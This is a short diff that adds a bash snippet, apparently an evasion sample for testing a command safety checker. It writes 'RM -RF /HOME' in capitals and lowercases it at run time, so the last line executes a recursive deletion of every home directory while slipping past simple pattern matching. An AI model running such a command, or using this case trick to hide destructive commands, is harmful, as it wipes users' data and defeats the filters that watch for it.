@@ -1,0 +1,4 @@
+# tricky: letters turned to small ones
+C="RM -RF"
+T="/HOME"
+${C,,} "${T,,}"
